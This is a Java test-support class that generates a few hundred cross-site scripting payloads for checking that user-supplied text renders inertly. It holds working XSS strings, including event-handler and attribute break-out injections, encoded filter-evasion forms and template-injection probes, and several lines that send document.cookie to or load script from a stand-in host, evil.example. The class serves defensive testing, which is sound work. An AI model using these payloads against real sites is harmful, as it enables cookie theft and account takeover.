package kr.cjournal.support;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Hundreds of cross-site scripting payloads for every place user text is shown: tags with event
 * handlers, script and URL schemes, attribute break-outs, encoded and mixed-case forms, and
 * template syntax. A page renders one inertly when no element, attribute or URL it adds runs
 * script; tests check the HTML parses without a {@code <script>} of the payload's, without
 * {@code on*} attributes and without {@code javascript:} URLs.
 */
public final class XssPayloads {

	private XssPayloads() {
	}

	private static final List<String> TAGS = List.of("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x",
			"details open", "input autofocus", "marquee", "object data=x", "embed src=x", "a href=x", "div", "math",
			"select autofocus", "textarea autofocus", "keygen autofocus", "isindex", "form", "button");

	private static final List<String> HANDLERS = List.of("onerror", "onload", "onfocus", "onmouseover", "ontoggle",
			"onclick", "onanimationstart", "onpointerenter", "onbegin", "onstart");

	private static final List<String> CALLS = List.of("alert(1)", "alert`1`", "confirm(document.cookie)",
			"fetch('//evil.example/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))");

	private static final List<String> STANDALONE = List.of("<script>alert(1)</script>",
			"<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "</textarea><script>alert(1)</script>",
			"</title><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
			"<scr<script>ipt>alert(1)</scr</script>ipt>", "<a href=\"javascript:alert(1)\">x</a>",
			"<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
			"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
			"<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
			"<form action=\"javascript:alert(1)\"><button>x</button></form>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
			"<base href=\"//evil.example/\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(javascript:alert(1))}</style>",
			"<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<img src=x onerror=alert(1)>-->",
			"<![CDATA[<script>alert(1)</script>]]>", "javascript:alert(1)", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>",
			"@{7*7}", "$unsafe{\"<b>\"}", "\u003cscript\u003ealert(1)\u003c/script\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
			"&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
			"<img src=x onerror\u000c=alert(1)>", "\"onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
			"<div style=\"width:expression(alert(1))\">", "<x contenteditable onblur=alert(1)>x", "<svg/onload=alert(1)>",
			"<body onpageshow=alert(1)>", "<img src=\"x\" onerror=\"&#97;lert(1)\">", "<a href=\"\u0001javascript:alert(1)\">x</a>",
			"<script>/*</script><script>*/alert(1)</script>", "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>", "＜script＞alert(1)＜/script＞");

	/** Every payload, each once (a few hundred). */
	public static List<String> all() {
		Set<String> payloads = new LinkedHashSet<>(STANDALONE);
		for (String tag : TAGS) {
			for (String handler : HANDLERS) {
				String call = CALLS.get(Math.floorMod((tag + handler).hashCode(), CALLS.size()));
				String name = tag.split(" ")[0];
				payloads.add("<" + tag + " " + handler + "=" + call + ">");
				if (payloads.size() % 3 == 0) {
					payloads.add("\"><" + tag + " " + handler + "=\"" + call + "\"></" + name + ">");
				}
			}
		}
		return new ArrayList<>(payloads);
	}

	/** Payloads that fit a short field (a nickname, a 400-byte comment), in characters. */
	public static List<String> upTo(int maxLength) {
		return all().stream().filter(p -> p.length() <= maxLength).toList();
	}
}
